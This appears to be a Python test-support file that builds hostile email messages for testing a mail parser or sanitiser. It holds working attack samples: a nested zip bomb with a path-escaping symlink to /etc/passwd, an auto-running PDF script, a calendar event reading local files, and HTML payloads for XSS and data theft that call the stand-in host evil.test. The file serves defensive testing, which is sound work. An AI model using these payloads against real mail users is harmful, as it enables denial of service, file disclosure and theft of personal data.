"""Hostile messages as octets: what stands in their fields, what is attached, what they would do."""

import base64
import io
import zipfile

from tests.support.mailers import SENDER


def lines(*of: str) -> bytes:
    return "".join(f"{line}\r\n" for line in of).encode("utf-8", "surrogateescape")


def plain(*fields: str, body: str = "Dear Jane") -> bytes:
    """A message of one part. Its own From unless one is given."""
    own = [] if any(f.lower().startswith("from:") for f in fields) else [f"From: Nora Sample <{SENDER}>"]
    subject = [] if any(f.lower().startswith("subject:") for f in fields) else ["Subject: An invented matter"]
    return lines(*own, *subject, *fields, "", body)


def mixed(*parts: bytes, mark: str = "b0") -> bytes:
    """A multipart/mixed of ready parts (header, empty line, body)."""
    head = plain("MIME-Version: 1.0", f'Content-Type: multipart/mixed; boundary="{mark}"', body="")
    return head + b"".join(f"--{mark}\r\n".encode() + part + b"\r\n" for part in parts) + f"--{mark}--\r\n".encode()


def attached(kind: str, name: str, octets: bytes, *, encoded: bytes | None = None) -> bytes:
    coded = encoded if encoded is not None else base64.encodebytes(octets).replace(b"\n", b"\r\n")
    how = (f"Content-Disposition: attachment; {name}", "Content-Transfer-Encoding: base64")
    return lines(f"Content-Type: {kind}", *how, "") + coded


TEXT = lines("Content-Type: text/plain", "", "Dear Jane")


def bomb() -> bytes:
    """20 zips in each other, the innermost 50 MB of zeros in 50 KB, and a link that leads out of its folder."""
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr("zeros", b"\0" * 50_000_000)
        link = zipfile.ZipInfo("../../escape")
        link.external_attr = 0o120777 << 16
        made.writestr(link, "/etc/passwd")
    for _ in range(20):
        outer = io.BytesIO()
        with zipfile.ZipFile(outer, "w", zipfile.ZIP_STORED) as made:
            made.writestr("next.zip", inner.getvalue())
        inner = outer
    return inner.getvalue()


BOMB = bomb()
PDF = b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>>endobj\n%%EOF\n"
DOCM = b"PK\x03\x04made up"
PICTURE = b"<html><script>alert(1)</script></html>"
CALENDAR = lines(
    "BEGIN:VCALENDAR", "BEGIN:VEVENT", "DTSTART:20260101T000000Z", "RRULE:FREQ=SECONDLY;COUNT=999999999",
    "ATTACH:file:///etc/passwd", "ATTACH:http://127.0.0.1:1/fetched", "END:VEVENT", "END:VCALENDAR",
)  # fmt: skip
TEETH = (
    '<base href="http://evil.test/"><meta http-equiv="refresh" content="0;url=http://evil.test/">'
    '<style>@import "http://evil.test/a.css"; p{width:expression(alert(1))}</style>'
    '<p onclick="alert(2)" style="background:url(http://evil.test/p)">Dear Jane</p><script>alert(3)</script>'
    '<svg><foreignObject><iframe src="javascript:alert(4)"></iframe></foreignObject></svg>'
    '<a href="javascript:alert(5)">one</a><a href="data:text/html,<script>alert(6)</script>">two</a>'
    '<form action="http://evil.test/steal"><input name="ssn"></form><img src="http://evil.test/pixel.gif">'
    "<math><mtext></table><mglyph><style><img src=x onerror=alert(7)>"
)
